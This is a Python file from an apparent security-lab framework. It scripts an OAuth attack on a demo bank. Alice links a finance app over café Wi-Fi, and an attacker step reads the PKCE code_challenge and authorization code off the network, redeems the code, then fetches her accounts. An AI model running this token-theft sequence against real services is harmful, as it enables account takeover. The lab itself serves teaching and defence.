"""Two addresses are read on their way, and are enough."""

from labs.chromium import BrowserStage
from labs.stage import Stage
from labs.steps import step


@step("Alice", by_hand="{balance}/")
def alice_connects_in_the_cafe(stage: BrowserStage) -> None:
    """Connect Balance to the bank: sign in as alice, and allow. Stop at the café's page."""
    stage.alice.go(f"{stage.here.balance}/").click("Connect your bank").agree()


@step("attacker", asks="the address at Bank ID that begins with /authorize: the wire shows it")
def reads_the_request(stage: Stage) -> None:
    """Read the address of the authorization request on the network: the challenge is in it."""
    asked = stage.given or stage.alice.visited("/authorize", at=stage.here.auth)
    stage.kept["challenge"] = stage.leak("network", asked).get("code_challenge", "")


@step("attacker", asks="the address of the callback with ?code= in it")
def reads_the_answer(stage: Stage) -> None:
    """Read the address of the callback on the network, and redeem its code with the challenge as the verifier."""
    told = stage.leak("network", stage.given or stage.alice.visited("/callback"))
    form = {"client_id": "balance", "redirect_uri": stage.callback("balance")}
    token = stage.attacker.redeem(told.get("code", ""), code_verifier=stage.kept.get("challenge", ""), **form)
    if token:
        stage.attacker.bank("GET", "/accounts", token)
